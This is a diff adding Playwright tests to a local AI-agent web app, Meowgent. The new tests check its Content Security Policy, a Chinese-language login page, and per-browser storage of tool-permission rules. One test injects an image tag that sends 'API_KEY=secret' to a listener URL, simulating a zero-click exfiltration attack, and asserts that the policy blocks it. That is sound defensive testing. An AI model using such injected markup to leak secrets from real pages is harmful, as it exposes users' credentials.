@@ -16,6 +16,7 @@ if not CHROMIUM.exists():
 
 from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright  # noqa: E402
 
+from meowgent.ui.app import serve  # noqa: E402
 from tests.scripted_ollama import Drop, Text, Turn, reply, tool_call_text  # noqa: E402
 
 LAUNCH_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
@@ -413,3 +414,72 @@ def test_a_chinese_browser_gets_chinese_and_can_switch_to_english(running_app, b
         expect(page.locator("#status")).to_contain_text("Connected")
     finally:
         context.close()
+
+
+def test_the_page_works_under_its_policy_and_an_injected_image_sends_nothing(running_app, page, listener):
+    """Issue 13's zero-click leak, at the last line of defence: even markup that slipped into the page loads nothing."""
+    running_app.ollama.script(reply("Purr."))
+    violations = []
+    page.on(
+        "console",
+        lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None,
+    )
+    open_app(page, running_app.url)
+    send(page, "hello")
+    expect(page.locator("#chat")).to_contain_text("Purr.")
+    assert violations == []  # Gradio's own page needs nothing the policy refuses
+    stored = page.evaluate("JSON.stringify(Object.entries(localStorage))")
+    assert "run-history" not in stored
+    assert "hello" not in stored  # the typed message is nowhere in the browser's storage
+    blocked = page.evaluate(
+        """url => new Promise(resolve => {
+            document.addEventListener("securitypolicyviolation", event => resolve(event.blockedURI), {once: true});
+            const image = document.createElement("img");
+            image.src = url;
+            document.querySelector("#chat").appendChild(image);
+        })""",
+        listener.url + "/leak?API_KEY=secret",
+    )
+    assert blocked.startswith(listener.url)
+    expect(page.locator("#chat")).to_contain_text("Purr.")  # still responsive
+    assert listener.requests == []
+
+
+def test_the_login_page_names_us_in_the_browsers_language_and_lets_the_person_in(running_app, browser):
+    running_app.demo.close()
+    running_app.demo, url, _ = serve(running_app.settings, auth=("ann", "pw"))
+    context = browser.new_context(viewport=VIEWPORT, locale="zh-TW")
+    try:
+        page = context.new_page()
+        page.goto(url)
+        expect(page.get_by_text("🐱 Meowgent")).to_be_visible()
+        expect(page.get_by_text("請用啟動 Meowgent 的終端機")).to_be_visible()
+        expect(page.get_by_role("button", name="登入")).to_be_visible()
+        page.get_by_label("使用者名稱").fill("ann")
+        page.get_by_label("密碼").fill("pw")
+        page.get_by_role("button", name="登入").click()
+        expect(page.locator("#status")).to_contain_text("已連上 Ollama")
+    finally:
+        context.close()
+
+
+def test_rules_saved_in_the_page_are_this_browsers_own(running_app, browser, page):
+    open_app(page, running_app.url)
+    page.get_by_text("Rules", exact=True).click()
+    page.locator("#rules .cm-content").click()
+    page.keyboard.press("Control+A")
+    page.keyboard.type('[{"tool": "read_file", "action": "allow"}]')
+    page.locator("#save_rules").click()
+    expect(page.locator("#rules_status")).to_contain_text("Saved 1 rule(s) for your chats")
+    page.reload()
+    expect(page.locator("#status")).to_contain_text("Connected")
+    page.get_by_text("Rules", exact=True).click()
+    expect(page.locator("#rules .cm-content")).to_have_text('[{"tool": "read_file", "action": "allow"}]')
+    other = new_context(browser)
+    try:
+        stranger = other.new_page()
+        open_app(stranger, running_app.url)
+        stranger.get_by_text("Rules", exact=True).click()
+        expect(stranger.locator("#rules .cm-content")).to_contain_text("git status*")  # the example, not ours
+    finally:
+        other.close()
